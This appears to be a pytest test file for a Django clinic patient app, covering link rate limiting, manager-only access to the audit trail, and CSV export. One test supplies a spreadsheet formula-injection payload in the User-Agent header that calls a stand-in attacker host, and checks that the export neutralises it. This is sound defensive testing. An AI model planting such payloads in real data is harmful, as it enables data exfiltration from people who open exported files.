import csv
import io
from datetime import UTC, datetime

import pytest
import time_machine

from patients.models import AuditEvent
from tests.factories import make_clinic, make_patient

pytestmark = pytest.mark.django_db


@time_machine.travel(datetime(2026, 12, 7, 9, 0, 30, tzinfo=UTC), tick=False)
def test_patient_link_pages_answer_429_past_the_budget_and_reveal_nothing(client, settings):
    settings.IONTO_PATIENT_LINK_RATE = 5
    answers = [client.get(f"/p/confirm/forged-token-{i}/", REMOTE_ADDR="198.51.100.23") for i in range(7)]
    assert [answer.status_code for answer in answers[:5]] == [400] * 5  # a forged token says only that it is not valid
    assert [answer.status_code for answer in answers[5:]] == [429, 429]
    assert answers[-1].content.decode() == "Too many requests from your network. Please wait a minute and try again."
    assert answers[-1]["Retry-After"] == "60"
    assert client.get("/p/confirm/forged-token/", REMOTE_ADDR="198.51.100.24").status_code == 400


def test_managers_browse_and_export_the_audit_trail_and_no_one_else_sees_it(client):
    clinic = make_clinic()
    patient = make_patient(clinic, screened=False)
    client.force_login(clinic.front_desk.user)
    assert client.get("/admin/patients/auditevent/").status_code == 403
    client.force_login(clinic.manager.user)
    page = client.get("/admin/patients/auditevent/")
    assert page.status_code == 200
    event = AuditEvent.objects.get(patient=patient)
    export = client.post("/admin/patients/auditevent/", {"action": "export_csv", "_selected_action": [event.pk]})
    assert export["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    assert rows[0][:4] == ["at", "actor", "action", "via"]
    assert rows[1][1:5] == [clinic.front_desk.user.username, "create", "service", str(patient.pk)]
    assert client.get(f"/admin/patients/auditevent/{event.pk}/delete/").status_code == 403


def test_the_audit_export_keeps_a_formula_in_a_user_agent_as_text(client):
    clinic = make_clinic()
    patient = make_patient(clinic, screened=False)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    client.force_login(clinic.front_desk.user)
    assert client.get(f"/admin/patients/patient/{patient.pk}/change/", HTTP_USER_AGENT=hostile).status_code == 200
    event = AuditEvent.objects.get(patient=patient, action="read")
    client.force_login(clinic.manager.user)
    export = client.post("/admin/patients/auditevent/", {"action": "export_csv", "_selected_action": [event.pk]})
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    assert rows[1][-1] == "'" + hostile
    assert len(rows) == 2
